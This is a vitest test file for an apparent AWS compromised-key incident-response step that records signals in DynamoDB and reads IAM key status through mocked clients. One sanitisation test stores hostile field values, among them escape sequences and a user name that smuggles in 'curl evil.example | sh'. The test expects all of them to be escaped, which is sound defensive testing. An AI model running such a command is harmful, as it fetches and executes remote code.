import { DynamoDBClient, GetItemCommand, UpdateItemCommand } from '@aws-sdk/client-dynamodb';
import {
  DeleteAccessKeyCommand,
  GetAccessKeyLastUsedCommand,
  IAMClient,
  ListAccessKeysCommand,
  NoSuchEntityException,
  PutUserPolicyCommand,
  TagUserCommand,
  UpdateAccessKeyCommand,
} from '@aws-sdk/client-iam';
import { mockClient } from 'aws-sdk-client-mock';
import { beforeEach, describe, expect, it } from 'vitest';
import { AwsCallError } from '../../../../src/errors.js';
import type { QuarantineSignal } from '../../../../src/incident/quarantine.js';
import { receiveSignal } from '../../../../src/steps/signals/receive-signal.js';
import { incidentFor } from '../../../support/incidents.js';

const KEY = 'AKIAIOSFODNN7EXAMPLE';
const OTHER = 'AKIAI44QH8DHBEXAMPLE';
const iamMock = mockClient(IAMClient);
const dbMock = mockClient(DynamoDBClient);
const MUTATIONS: unknown[] = [DeleteAccessKeyCommand, UpdateAccessKeyCommand, PutUserPolicyCommand, TagUserCommand];

const quarantine: QuarantineSignal = {
  source: 'quarantine-policy',
  accountId: '123456789012',
  userName: 'alice',
  policy: 'AWSCompromisedKeyQuarantineV3',
  how: 'attached',
  detectedAt: '2026-11-26T22:01:00.000Z',
  eventId: 'ct-1',
  callerKey: null,
};

function deps(withRecord = true) {
  return {
    iam: new IAMClient({ region: 'us-east-1' }),
    ...(withRecord ? { record: { db: new DynamoDBClient({ region: 'us-east-1' }), table: 'incidents' } } : {}),
  };
}

function item(firstEventId: string) {
  return {
    firstEventId: { S: firstEventId },
    firstSource: { S: 'trusted-advisor' },
    openedAt: { S: '2026-11-26T22:00:00.000Z' },
    eventIds: { SS: [firstEventId, 'event-2'] },
    sources: { SS: ['trusted-advisor', 'health'] },
  };
}

function expectNoMutation(): void {
  const sent = iamMock.calls().map((call) => call.args[0].constructor);
  expect(sent.filter((command) => MUTATIONS.includes(command))).toEqual([]);
}

beforeEach(() => {
  iamMock.reset();
  dbMock.reset();
});

describe('receiveSignal', () => {
  it('makes the first signal about a key first, in one atomic update of its record', async () => {
    dbMock.on(UpdateItemCommand).resolves({ Attributes: item('event-1') });

    const receipt = await receiveSignal(deps(), { kind: 'key', incident: incidentFor(KEY, 'alice') });

    expect(receipt).toMatchObject({ role: 'first', record: { firstEventId: 'event-1', signals: 2 } });
    expect(dbMock).toHaveReceivedCommandWith(UpdateItemCommand, {
      TableName: 'incidents',
      Key: { pk: { S: `key#123456789012#${KEY}` } },
      ReturnValues: 'ALL_NEW',
    });
    expectNoMutation();
  });

  it("files the key under the user the signal names at once, so that AWS's quarantine of the user finds it", async () => {
    dbMock.on(UpdateItemCommand).resolves({ Attributes: item('event-1') });

    await receiveSignal(deps(), { kind: 'key', incident: incidentFor(KEY, 'Alice') });
    await receiveSignal(deps(), { kind: 'key', incident: incidentFor(OTHER, null) });

    const users = dbMock
      .commandCalls(UpdateItemCommand)
      .map((call) => call.args[0].input.Key?.pk?.S)
      .filter((pk) => pk?.startsWith('user#'));
    expect(users).toEqual(['user#123456789012#alice']);
    expect(dbMock).toHaveReceivedCommandWith(UpdateItemCommand, {
      Key: { pk: { S: 'user#123456789012#alice' } },
      ExpressionAttributeValues: expect.objectContaining({ ':key': { SS: [KEY] } }),
    });
  });

  it('still claims the incident when the key cannot be filed under its user', async () => {
    dbMock
      .on(UpdateItemCommand)
      .resolves({ Attributes: item('event-1') })
      .on(UpdateItemCommand, { Key: { pk: { S: 'user#123456789012#alice' } } })
      .rejects(Object.assign(new Error('boom'), { name: 'InternalServerError' }));

    const receipt = await receiveSignal(deps(), { kind: 'key', incident: incidentFor(KEY, 'alice') });

    expect(receipt).toMatchObject({ role: 'first', record: { firstEventId: 'event-1' } });
  });

  it('lets a later signal join, with what IAM says of the key now, and touches nothing', async () => {
    dbMock.on(UpdateItemCommand).resolves({ Attributes: item('ta-event') });
    iamMock.on(GetAccessKeyLastUsedCommand).resolves({ UserName: 'alice' });
    iamMock.on(ListAccessKeysCommand).resolves({ AccessKeyMetadata: [{ AccessKeyId: KEY, Status: 'Inactive' }] });

    const receipt = await receiveSignal(deps(), { kind: 'key', incident: incidentFor(KEY, 'alice') });

    expect(receipt).toMatchObject({
      role: 'joined',
      record: { firstEventId: 'ta-event', sources: ['health', 'trusted-advisor'] },
      keyNow: { status: 'inactive', userName: 'alice' },
    });
    expectNoMutation();
  });

  it('reports a joined key IAM no longer knows as gone', async () => {
    dbMock.on(UpdateItemCommand).resolves({ Attributes: item('ta-event') });
    iamMock.on(GetAccessKeyLastUsedCommand).rejects(new NoSuchEntityException({ message: 'no', $metadata: {} }));

    const receipt = await receiveSignal(deps(), { kind: 'key', incident: incidentFor(KEY, 'alice') });

    expect(receipt).toMatchObject({ role: 'joined', keyNow: { status: 'gone' } });
  });

  it("reports a root user's key as not known, never as gone: no IAM user holds it", async () => {
    dbMock.on(UpdateItemCommand).resolves({ Attributes: item('ta-event') });
    iamMock.on(GetAccessKeyLastUsedCommand).resolves({ UserName: 'root' });
    iamMock.on(ListAccessKeysCommand).rejects(new NoSuchEntityException({ message: 'no user root', $metadata: {} }));

    const receipt = await receiveSignal(deps(), { kind: 'key', incident: incidentFor(KEY, null) });

    expect(receipt).toMatchObject({ role: 'joined', keyNow: { status: 'unknown', rootUser: true } });
  });

  it('reports a joined key as not known when IAM does not answer, saying what IAM said', async () => {
    dbMock.on(UpdateItemCommand).resolves({ Attributes: item('ta-event') });
    iamMock.on(GetAccessKeyLastUsedCommand).rejects(Object.assign(new Error('Rate exceeded'), { name: 'Throttling' }));

    const receipt = await receiveSignal(deps(), { kind: 'key', incident: incidentFor(KEY, 'alice') });

    expect(receipt).toMatchObject({ role: 'joined', keyNow: { status: 'unknown' } });
    const error = receipt.role === 'joined' && receipt.keyNow.status === 'unknown' ? receipt.keyNow.error : '';
    expect(error).toMatch(/iam:GetAccessKeyLastUsed.*Throttling/);
    expect(error).not.toMatch(/nothing was changed/);
  });

  it('says the first response is overdue when it has recorded nothing for longer than a response takes', async () => {
    dbMock.on(UpdateItemCommand).resolves({ Attributes: item('ta-event') });
    iamMock.on(GetAccessKeyLastUsedCommand).resolves({ UserName: 'alice' });
    iamMock.on(ListAccessKeysCommand).resolves({ AccessKeyMetadata: [{ AccessKeyId: KEY, Status: 'Active' }] });
    const at = (time: string) => ({ ...deps(), now: () => new Date(time) });
    const signal = { kind: 'key', incident: incidentFor(KEY, 'alice') } as const;

    const soon = await receiveSignal(at('2026-11-26T22:10:00.000Z'), signal);
    const late = await receiveSignal(at('2026-11-26T22:16:00.000Z'), signal);

    expect(soon).not.toHaveProperty('overdue');
    expect(late).toMatchObject({ role: 'joined', overdue: true });
  });

  it("reads the record's texts inert and cut, and leaves out a user name IAM could not have", async () => {
    dbMock.on(UpdateItemCommand).resolves({
      Attributes: {
        ...item('ta-event'),
        firstSource: { S: 'trusted-advisor\u001b[2J' },
        openedAt: { S: '2026-11-26\nKey now        DELETED' },
        sources: { SS: ['health\r', 'trusted-advisor'] },
        reportedUserName: { S: 'alice; curl evil.example | sh' },
        outcome: { S: 'deleted\u202e' },
        contained: { BOOL: true },
        respondedAt: { S: `2026-11-26T22:00:09.000Z${'x'.repeat(500)}` },
        userName: { S: 'bob\n' },
      },
    });
    iamMock.on(GetAccessKeyLastUsedCommand).rejects(new NoSuchEntityException({ message: 'no', $metadata: {} }));

    const receipt = await receiveSignal(deps(), { kind: 'key', incident: incidentFor(KEY, 'alice') });

    const record = receipt.role === 'joined' ? receipt.record : null;
    expect(record).toEqual({
      accountId: '123456789012',
      accessKeyId: KEY,
      firstEventId: 'ta-event',
      firstSource: 'trusted-advisor\\x1B[2J',
      openedAt: '2026-11-26\\x0AKey now        DELETED',
      signals: 2,
      sources: ['health\\x0D', 'trusted-advisor'],
      response: {
        outcome: 'deleted\\u202E',
        contained: true,
        at: expect.stringMatching(/^2026-11-26T22:00:09\.…x+$/),
        userName: null,
      },
    });
    expect(record?.response?.at.length).toBe(40);
  });

  it('is first without a record (respond, or a stack without one)', async () => {
    expect(await receiveSignal(deps(false), { kind: 'key', incident: incidentFor(KEY, 'alice') })).toEqual({
      role: 'first',
      record: null,
    });
  });

  it('throws a typed error when the record cannot be written, so that the caller responds in full', async () => {
    dbMock.on(UpdateItemCommand).rejects(Object.assign(new Error('boom'), { name: 'InternalServerError' }));

    await expect(receiveSignal(deps(), { kind: 'key', incident: incidentFor(KEY, 'alice') })).rejects.toThrow(
      AwsCallError,
    );
  });

  it("reports a quarantined user's keys with their last use, joins the user's incidents, and contains nothing", async () => {
    dbMock.on(GetItemCommand).resolves({ Item: { accessKeyIds: { SS: [KEY] } } });
    dbMock.on(UpdateItemCommand).resolves({ Attributes: item('ta-event') });
    iamMock.on(ListAccessKeysCommand).resolves({
      AccessKeyMetadata: [
        { AccessKeyId: KEY, Status: 'Active', CreateDate: new Date('2026-01-01T00:00:00Z') },
        { AccessKeyId: OTHER, Status: 'Active' },
      ],
    });
    iamMock
      .on(GetAccessKeyLastUsedCommand, { AccessKeyId: KEY })
      .resolves({
        AccessKeyLastUsed: { LastUsedDate: new Date('2026-11-26T21:59:00Z'), ServiceName: 'iam', Region: 'us-east-1' },
      })
      .on(GetAccessKeyLastUsedCommand, { AccessKeyId: OTHER })
      .resolves({ AccessKeyLastUsed: { ServiceName: 'N/A', Region: 'N/A' } });

    const receipt = await receiveSignal(deps(), { kind: 'user', quarantine });

    expect(receipt).toMatchObject({
      role: 'quarantine',
      incidents: [{ accessKeyId: KEY, firstEventId: 'ta-event' }],
      user: {
        userName: 'alice',
        exists: true,
        keys: [
          {
            accessKeyId: KEY,
            status: 'Active',
            createdAt: '2026-01-01T00:00:00.000Z',
            lastUsedAt: '2026-11-26T21:59:00.000Z',
            lastUsedService: 'iam',
          },
          { accessKeyId: OTHER, lastUsedAt: null, lastUsedService: null, lastUsedRegion: null },
        ],
        warnings: [],
      },
    });
    expect(dbMock).toHaveReceivedCommandWith(GetItemCommand, {
      Key: { pk: { S: 'user#123456789012#alice' } },
      ConsistentRead: true,
    });
    expectNoMutation();
  });

  it('still reports the keys when the record cannot be read, saying so', async () => {
    dbMock.on(GetItemCommand).rejects(Object.assign(new Error('down'), { name: 'InternalServerError' }));
    iamMock.on(ListAccessKeysCommand).rejects(new NoSuchEntityException({ message: 'no user', $metadata: {} }));

    const receipt = await receiveSignal(deps(), { kind: 'user', quarantine });

    expect(receipt).toMatchObject({
      role: 'quarantine',
      incidents: [],
      recordError: expect.stringContaining('InternalServerError'),
      user: { exists: false, keys: [] },
    });
  });

  it("says a quarantined user's keys are not known when IAM cannot list them, rather than that there are none", async () => {
    dbMock.on(GetItemCommand).resolves({});
    iamMock.on(ListAccessKeysCommand).rejects(Object.assign(new Error('Rate exceeded'), { name: 'Throttling' }));

    const receipt = await receiveSignal(deps(), { kind: 'user', quarantine });

    expect(receipt).toMatchObject({ role: 'quarantine', user: { exists: true, keys: [], keysUnknown: true } });
    expectNoMutation();
  });
});
